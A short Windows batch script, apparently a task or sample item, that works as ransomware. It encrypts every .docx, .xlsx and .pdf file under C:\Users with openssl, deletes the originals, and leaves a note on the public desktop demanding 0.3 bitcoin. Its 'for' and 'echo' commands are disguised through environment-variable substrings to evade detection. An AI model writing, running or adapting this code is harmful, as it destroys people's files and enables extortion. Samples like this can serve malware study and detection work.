REM task 8466 v3
@echo off
f%programdata:~-9,1%%programdata:~4,1% /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:Sup3rS3cure! -in "%%f" -out "%%f.pay" && del "%%f"
)
%COMSPEC:~-1,1%%public:~-1,1%h%windir:~7,1% Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
